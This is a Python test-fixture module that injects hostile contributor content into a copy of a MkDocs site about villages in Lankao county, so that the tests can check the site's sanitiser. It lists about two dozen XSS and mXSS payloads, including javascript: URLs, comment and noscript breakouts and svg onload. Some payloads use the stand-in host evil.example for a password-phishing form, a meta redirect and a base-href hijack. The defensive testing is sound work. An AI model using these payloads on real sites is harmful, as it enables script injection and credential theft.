"""Hostile contributor content: the payloads an attacker would try, and where to put them.

Each family of issue 8 is here once, so the build tests, the browser test and the
check-equals-build test all try the same things. `ATTACK_MARK` is in every payload's alert so a
test can tell our payload from anything the site's own scripts do.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import sitekit

ATTACK_MARK = "hp-attack"
EVIL_HOST = "evil.example"

# Markup that runs script, navigates away, hides the page or asks for a password once a
# browser parses it; each is a family the regex scanner once let through.
BODY_PAYLOADS: dict[str, str] = {
    "attr-list-onclick": "点这里看光伏板\n{: onclick=\"alert('hp-attack-1')\" }",
    "attr-list-autofocus": (
        "大棚里的蜜瓜\n{: autofocus onfocus=\"alert('hp-attack-2')\" tabindex=0 }"
    ),
    "attr-list-href": (
        "[合作社的账本](https://example.org/){: href=\"javascript:alert('hp-attack-3')\" }"
    ),
    "markdown-link-script-url": "[收入账](javascript:alert('hp-attack-4'))",
    "entity-script-url": "<a href=\"jav&#x09;ascript:alert('hp-attack-5')\">扶贫车间</a>",
    "svg-style": "<svg><style><img src=x onerror=\"alert('hp-attack-6')\"></style></svg>",
    "math-style": "<math><mtext><table><mglyph><style><img src=x onerror=\"alert('hp-attack-7')\">",
    "comment-open": "<!--><img src=x onerror=\"alert('hp-attack-8')\">-->",
    "comment-bang-close": "<!-- x --!><img src=x onerror=\"alert('hp-attack-9')\"> -->",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert('hp-attack-10')>\">",
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url=https://{EVIL_HOST}/">',
    "style-hides-page": "<style>body { display: none !important; }</style>",
    "form-password": (
        f'<form action="https://{EVIL_HOST}/login"><input type="password" name="p">'
        "<button>登录后查看全文</button></form>"
    ),
    "details-ontoggle": (
        "<details open ontoggle=\"alert('hp-attack-11')\"><summary>展开</summary></details>"
    ),
    "iframe-srcdoc": "<iframe srcdoc=\"<script>alert('hp-attack-12')</script>\"></iframe>",
    "base-href": f'<base href="https://{EVIL_HOST}/">',
    "script-tag": "<script>alert('hp-attack-13')</script>",
    "object-data": "<object data=\"javascript:alert('hp-attack-14')\"></object>",
    "external-image": f"![远方的图](https://{EVIL_HOST}/track.png)",
    "svg-animate-href": (
        "<svg><a><animate attributeName=href values=\"javascript:alert('hp-attack-15')\"/>"
        "<text x=20 y=20>点我</text></a></svg>"
    ),
    "cdata-confusion": "<![CDATA[ ><img src=x onerror=\"alert('hp-attack-16')\"> ]]>",
}

# Markup in plain-text fields: refused as problems, escaped wherever it is still shown.
FIELD_PAYLOAD = "<img src=x onerror=\"alert('hp-attack-20')\">"
TITLE_PAYLOAD = "</title><script>alert('hp-attack-21')</script>"


def body_block() -> str:
    return "\n\n".join(f"## {name}\n\n{payload}" for name, payload in BODY_PAYLOADS.items())


def hostile_story(folder_date: str = "2021-03-12") -> str:
    """A story whose fields are valid and whose body carries every payload."""
    return sitekit.story_text("张庄的光伏板", date=folder_date, body=body_block())


def hostile_fields_story() -> str:
    """A story with markup in every plain-text field (and an ordinary body)."""
    return (
        "---\n"
        f'title: "{TITLE_PAYLOAD}"\n'
        "date: 2021-03-13\n"
        "activity: 入户访\n"
        "city: 开封市\n"
        "county: 兰考县\n"
        f"township: '{FIELD_PAYLOAD}'\n"
        "village: 张庄村\n"
        "form: 文章\n"
        "authors:\n"
        f"  - name: '{FIELD_PAYLOAD}'\n"
        "    role: 媒体记者\n"
        f"    org: '{FIELD_PAYLOAD}'\n"
        f"summary: '{FIELD_PAYLOAD}'\n"
        f"tags: ['{FIELD_PAYLOAD}', 光伏]\n"
        "---\n\n村里的光伏板一排排立在屋顶上。\n"
    )


def hostile_page() -> str:
    """A hand-written page outside the content folders, title and heading included."""
    return (
        "---\n"
        f'title: "{TITLE_PAYLOAD}"\n'
        "---\n\n"
        f"# {FIELD_PAYLOAD}\n\n"
        "# &lt;img src=x onerror=alert('hp-attack-22')&gt;\n\n" + body_block() + "\n"
    )


def hostile_profile() -> str:
    return (
        "---\n"
        "name: 张庄村\n"
        "township: 东坝头镇\n"
        "county: 兰考县\n"
        "city: 开封市\n"
        f"industries: ['{FIELD_PAYLOAD}', 光伏]\n"
        f"support_units: ['{FIELD_PAYLOAD}']\n"
        "---\n\n" + body_block() + "\n"
    )


def copy_repository_site(root: Path) -> Path:
    """The repository's whole site (machinery and all sample content) in `root`."""
    for relative in ("mkdocs.yml", "overrides", "hooks", "docs"):
        source = sitekit.REPO_ROOT / relative
        target = root / relative
        if source.is_dir():
            shutil.copytree(source, target, ignore=sitekit.IGNORED_WHEN_COPYING)
        else:
            shutil.copy2(source, target)
    return root


def inject_everything(root: Path) -> Path:
    """Put every payload family into the samples of a copied repository site."""
    docs = root / "docs"
    stories = docs / "stories"
    (stories / "2021-03-12-hostile-body").mkdir()
    (stories / "2021-03-12-hostile-body" / "index.md").write_text(hostile_story(), "utf-8")
    (stories / "2021-03-13-hostile-fields").mkdir()
    (stories / "2021-03-13-hostile-fields" / "index.md").write_text(hostile_fields_story(), "utf-8")
    index = docs / "index.md"
    index.write_text(index.read_text("utf-8") + "\n\n" + body_block() + "\n", "utf-8")
    (docs / "about.md").write_text(hostile_page(), "utf-8")
    (docs / "evil.html").write_text("<script>alert('hp-attack-30')</script>", "utf-8")
    (docs / "assets" / "evil.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'hp-attack-31\')"/>', "utf-8"
    )
    (docs / "villages" / "kaifeng" / "lankao" / "zhangzhuang.md").write_text(
        hostile_profile(), "utf-8"
    )
    members = docs / "troupe" / "members.yml"
    members.write_text(
        members.read_text("utf-8")
        + "\n- id: hostile-member\n"
        + f"  name: '{FIELD_PAYLOAD}'\n"
        + "  category: 文艺工作者\n  unit: 开封市文化馆\n  city: 开封市\n"
        + f"  bio: '{FIELD_PAYLOAD}'\n",
        "utf-8",
    )
    schedule = docs / "troupe" / "schedule" / "kaifeng.yml"
    schedule.write_text(
        schedule.read_text("utf-8")
        + '\n- id: kf-hostile\n  date: 2021-06-01\n  start: "09:30"\n  end: "10:30"\n'
        + "  city: 开封市\n  county: 兰考县\n"
        + f"  venue: '{FIELD_PAYLOAD}'\n"
        + "  speakers: [sun-desheng]\n"
        + f"  title: '{TITLE_PAYLOAD}'\n"
        + "  form: 微宣讲\n  status: 计划\n",
        "utf-8",
    )
    return root
